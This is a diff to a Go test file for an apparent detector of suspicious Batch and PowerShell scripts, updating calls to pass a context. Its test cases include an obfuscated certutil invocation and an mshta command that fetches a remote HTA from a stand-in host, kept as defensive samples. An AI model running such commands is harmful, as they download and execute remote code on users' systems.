@@ -61,7 +61,7 @@ func TestFolding(t *testing.T) {
 		{"marks", PowerShell, "$x = \"Down`load\"", "Download"},
 	} {
 		found := false
-		f := fold(tt.src, tt.lang)
+		f := fold(t.Context(), tt.src, tt.lang)
 		for _, s := range f.strings {
 			found = found || s == tt.want
 		}
@@ -98,7 +98,7 @@ func TestSuspicious(t *testing.T) {
 		{"escapes in words", Batch, "c^e^r^t^u^t^i^l x ^-^d y a^b c^d e^f", true},
 		{"mshta", Batch, "mshta http://example.test/a.hta", true},
 	} {
-		r := Judge(tt.src, tt.lang)
+		r, _ := Judge(t.Context(), tt.src, tt.lang)
 		if !r.Suspicious() || r.Strong != tt.strong {
 			t.Errorf("%s: %s: %q, strong %v", tt.lang, tt.name, r.Does, r.Strong)
 		}
@@ -128,7 +128,7 @@ func TestHonestScripts(t *testing.T) {
 		{"a build", Batch, "@echo off\r\nsetlocal\r\nset DIR=%~dp0\r\nif \"%1\"==\"\" goto usage\r\n\"%JAVA_HOME%\\bin\\java\" -cp \"%DIR%lib\\a.jar\" Main %*\r\n:usage\r\necho usage: %0 FILE ^| more"},
 		{"a script of an administrator", PowerShell, "param($Name)\nGet-ChildItem $Name | Where-Object { $_.Length -gt 1MB } | Export-Csv out.csv"},
 	} {
-		if r := Judge(tt.src, tt.lang); r.Suspicious() || r.Strong {
+		if r, _ := Judge(t.Context(), tt.src, tt.lang); r.Suspicious() || r.Strong {
 			t.Errorf("%s: %s: %q", tt.lang, tt.name, r.Does)
 		}
 	}
